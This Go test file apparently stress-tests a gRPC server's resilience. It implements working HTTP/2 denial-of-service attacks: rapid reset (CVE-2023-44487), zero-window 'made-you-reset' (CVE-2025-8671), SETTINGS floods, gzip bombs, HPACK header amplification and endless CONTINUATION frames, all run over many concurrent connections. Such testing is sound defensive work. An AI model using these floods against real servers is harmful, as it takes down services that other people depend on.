package server

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"testing"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/dyngate/dyngate/tests/internal/rig"
)

// flooder is a hostile HTTP/2 connection. It ignores the server's flow control for
// the connection, which grpc-go does not enforce.
type flooder struct {
	net.Conn
	*http2.Framer
	block bytes.Buffer
	enc   *hpack.Encoder
	next  uint32         // stream
	away  *atomic.Uint32 // counts GOAWAY frames with ENHANCE_YOUR_CALM
}

// attack is one way to flood the server. Its function run returns an error when the
// connection ends.
type attack struct {
	run    func(*flooder) error
	unread bool // whether the server's frames are left unread
	small  bool // whether the window of calls is 0
}

// dialFlooder connects and writes the preface of HTTP/2.
func dialFlooder(ctx context.Context, addr string, settings ...http2.Setting) (*flooder, error) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	f := &flooder{Conn: conn, Framer: http2.NewFramer(conn, conn), next: 1}
	f.enc = hpack.NewEncoder(&f.block)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		conn.Close()
		return nil, err
	}
	if err := f.WriteSettings(settings...); err != nil {
		conn.Close()
		return nil, err
	}
	return f, nil
}

// call opens a stream with the usual header fields and these.
func (f *flooder) call(path string, end bool, fields ...hpack.HeaderField) (id uint32, err error) {
	f.block.Reset()
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: path},
		{Name: ":authority", Value: "x"},
		{Name: "te", Value: "trailers"},
		{Name: "content-type", Value: "application/grpc"},
	}, fields...) {
		if err := f.enc.WriteField(field); err != nil {
			return 0, err
		}
	}
	id, f.next = f.next, f.next+2
	first := f.block.Next(16 << 10)
	err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: f.block.Len() == 0, EndStream: end})
	for err == nil && f.block.Len() > 0 {
		part := f.block.Next(16 << 10)
		err = f.WriteContinuation(id, f.block.Len() == 0, part)
	}
	return id, err
}

// body sends a message of a call and half-closes.
func (f *flooder) body(id uint32, message []byte) error {
	for len(message) > 16<<10 {
		if err := f.WriteData(id, false, message[:16<<10]); err != nil {
			return err
		}
		message = message[16<<10:]
	}
	return f.WriteData(id, true, message)
}

// begin runs the attack on a connection, until the connection or ctx ends.
func (a attack) begin(ctx context.Context, addr string, away *atomic.Uint32) error {
	var settings []http2.Setting
	if a.small {
		settings = append(settings, http2.Setting{ID: http2.SettingInitialWindowSize})
	}
	f, err := dialFlooder(ctx, addr, settings...)
	if err != nil {
		return err
	}
	f.away = away
	defer context.AfterFunc(ctx, func() { _ = f.Close() })()
	ended := make(chan struct{})
	go func() { // ends with the connection
		defer close(ended)
		if a.unread {
			<-ctx.Done()
			return
		}
		f.read()
	}()
	if err = a.run(f); err == nil { // it has done all, and its calls stay open
		<-ended
	}
	_ = f.Close()
	return err
}

// read reads until the connection ends. It ignores all frames but GOAWAY.
func (f *flooder) read() {
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return
		}
		if g, ok := frame.(*http2.GoAwayFrame); ok && g.ErrCode == http2.ErrCodeEnhanceYourCalm {
			f.away.Add(1)
		}
	}
}

// rapidReset opens calls and resets each at once (CVE-2023-44487).
func rapidReset(f *flooder) error {
	for {
		id, err := f.call(rig.SayHello, false)
		if err != nil {
			return err
		}
		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
}

// madeReset makes the server reset each call (CVE-2025-8671), by an increment of 0
// for the window of its stream.
func madeReset(f *flooder) error {
	f.AllowIllegalWrites = true
	for {
		id, err := f.call(rig.SayHello, false)
		if err != nil {
			return err
		}
		if err := f.WriteWindowUpdate(id, 0); err != nil {
			return err
		}
	}
}

// settingsFlood sends settings: the server must acknowledge each.
func settingsFlood(f *flooder) error {
	for {
		if err := f.WriteSettings(); err != nil {
			return err
		}
	}
}

// gzipBombs sends calls whose requests are 4 KiB that become 4 MiB.
func gzipBombs(path string, size int) func(*flooder) error {
	bomb := frame(1, bombOf(size))
	return func(f *flooder) error {
		for {
			id, err := f.call(path, false, hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
			if err != nil {
				return err
			}
			if err := f.body(id, bomb); err != nil {
				return err
			}
		}
	}
}

// bombOf returns a request of one long string, compressed.
var bombOf = func() func(int) []byte {
	var mu sync.Mutex
	known := make(map[int][]byte)
	return func(size int) []byte {
		mu.Lock()
		defer mu.Unlock()
		if known[size] == nil {
			var b bytes.Buffer
			w := gzip.NewWriter(&b)
			_, _ = w.Write(rig.Text(1, string(bytes.Repeat([]byte{'x'}, size))))
			_ = w.Close()
			known[size] = b.Bytes()
		}
		return known[size]
	}
}()

// heldHeaders opens 1,000 calls with large header lists, which take few bytes on
// the wire as each field refers to an earlier one, and never sends a request.
func heldHeaders(f *flooder) error {
	var fields []hpack.HeaderField
	for i := range 1800 {
		fields = append(fields, hpack.HeaderField{Name: fmt.Sprint("k", i%100)})
	}
	for range 1000 {
		if _, err := f.call(rig.SayHello, false, fields...); err != nil {
			return err
		}
	}
	return nil
}

// neverReads makes 1,000 calls that are answered with 60 KB each and leaves no
// window for them.
func neverReads(f *flooder) error {
	return f.calls(1000, rig.SayHello, frame(0, rig.Text(1, string(bytes.Repeat([]byte{'x'}, 60_000)))))
}

// calls makes calls with the same body.
func (f *flooder) calls(n int, path string, body []byte) error {
	for range n {
		id, err := f.call(path, false)
		if err != nil {
			return err
		}
		if err := f.body(id, body); err != nil {
			return err
		}
	}
	return nil
}

// tinyUnread makes 1,000 calls that are answered by thousands of tiny messages
// and leaves no window for them.
func tinyUnread(f *flooder) error {
	return f.calls(1000, "/RouteGuide/RouteChat", bytes.Repeat(frame(0, nil), 10_000))
}

// openHeaders begins a header block that never ends, of fields that refer to the
// first of it.
func openHeaders(f *flooder) error {
	first := []byte{0x40, 1, 'k', 1, 'v'} // becomes number 62
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first}); err != nil {
		return err
	}
	return f.WriteContinuation(1, false, bytes.Repeat([]byte{0x80 | 62}, 16<<10))
}

// flood runs an attack on some connections at once until the returned function is
// called. Where the server ends one, the next begins. ended is how many times the
// server has told a connection to calm down.
func flood(t testing.TB, addr string, conns int, a attack) (stop func(), ended *atomic.Uint32) {
	ctx, cancel := context.WithCancel(t.Context())
	ended = new(atomic.Uint32)
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() { // ends with ctx
			for ctx.Err() == nil {
				_ = a.begin(ctx, addr, ended)
			}
		})
	}
	return func() {
		cancel()
		wg.Wait()
	}, ended
}
